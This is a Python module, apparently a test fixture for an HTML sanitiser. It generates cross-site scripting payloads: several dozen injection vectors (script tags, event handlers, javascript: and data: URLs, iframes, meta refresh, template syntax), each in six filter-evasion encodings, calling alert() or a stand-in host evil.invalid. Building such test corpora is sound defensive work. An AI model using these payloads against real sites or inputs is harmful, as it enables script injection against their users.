"""Hostile markup of our own making: what would run, call out or cover the page, each in several writings."""

from __future__ import annotations

from collections.abc import Callable, Iterator

# {js} is what would run, {url} what would be asked for: both tell on themselves by a number.
_VECTORS = (
    "<script>{js}</script>",
    "<script src='{url}'></script>",
    "<img src=x onerror='{js}'>",
    "<img src='{url}' srcset='{url} 2x'>",
    "<svg onload='{js}'><circle/></svg>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin='{js}' attributeName=x dur=1s></svg>",
    "<svg><image href='{url}'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror='{js}'></style></mglyph></table></mtext></math>",
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    "<iframe src='{url}'></iframe>",
    "<iframe src='javascript:{js}'></iframe>",
    "<object data='{url}'></object><embed src='{url}'>",
    "<a href='javascript:{js}' ping='{url}'>点我</a>",
    "<a href='data:text/html,<script>{js}</script>'>点我</a>",
    "<form action='javascript:{js}'><button formaction='{url}'>提交</button></form>",
    "<input autofocus onfocus='{js}' onblur='{js}'>",
    "<details open ontoggle='{js}'><summary>展开</summary></details>",
    "<video src='{url}' poster='{url}' onerror='{js}' autoplay></video>",
    "<audio src=x onerror='{js}'><source src='{url}'></audio>",
    "<body onload='{js}' background='{url}'>",
    "<marquee onstart='{js}'>滚动</marquee>",
    "<link rel=stylesheet href='{url}'><link rel=preload as=image href='{url}'>",
    "<style>@import url({url});*{{background:url({url})}}</style>",
    "<p style='position:fixed;inset:0;z-index:9;background:url({url})'>盖住</p>",
    "<base href='{url}'>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<template><script>{js}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror='{js}'>\"></noscript>",
    "</title></textarea></style></script><img src=x onerror='{js}'>",
    "\"'><img src=x onerror='{js}'>",
    "--><script>{js}</script><!--",
    "]]><script>{js}</script>",
    "<div contenteditable autofocus tabindex=0 onfocus='{js}' onpointerenter='{js}'>写</div>",
    "<table background='{url}'><td background='{url}'>格",
    "<input type=image src='{url}' onerror='{js}'>",
    "{{{{ {js} }}}}{{% raw %}}${{{js}}}<%= {js} %>",
)


def _shout(text: str) -> str:
    """Tag names in capitals, what runs as it was."""
    parts = text.split("<")
    return "<".join(
        part[:1].upper() + part[1:2].upper() + part[2:] if at else part for at, part in enumerate(parts)
    )


def _code(text: str) -> str:
    return "".join(f"&#{ord(sign)};" if sign in "<>'\"" else sign for sign in text)


WRITINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    _shout,
    lambda text: (
        text.replace("<", "<\x00")
        if "<script" in text
        else text.replace(" on", "/on").replace(" src", "\nsrc")
    ),
    lambda text: text.replace("javascript:", "jav&#x09;ascript&colon;").replace("<script", "<scr<script>ipt"),
    _code,
    lambda text: f"<p title='{text}'>{text.removesuffix('>')}",
)


def make_payloads() -> Iterator[str]:
    """Make every vector in every writing; each would tell by its number what ran or was asked for."""
    number = 0
    for writing in WRITINGS:
        for vector in _VECTORS:
            number += 1
            yield writing(vector.format(js=f"alert({number})", url=f"//evil.invalid/{number}"))


PAYLOADS = tuple(dict.fromkeys(make_payloads()))
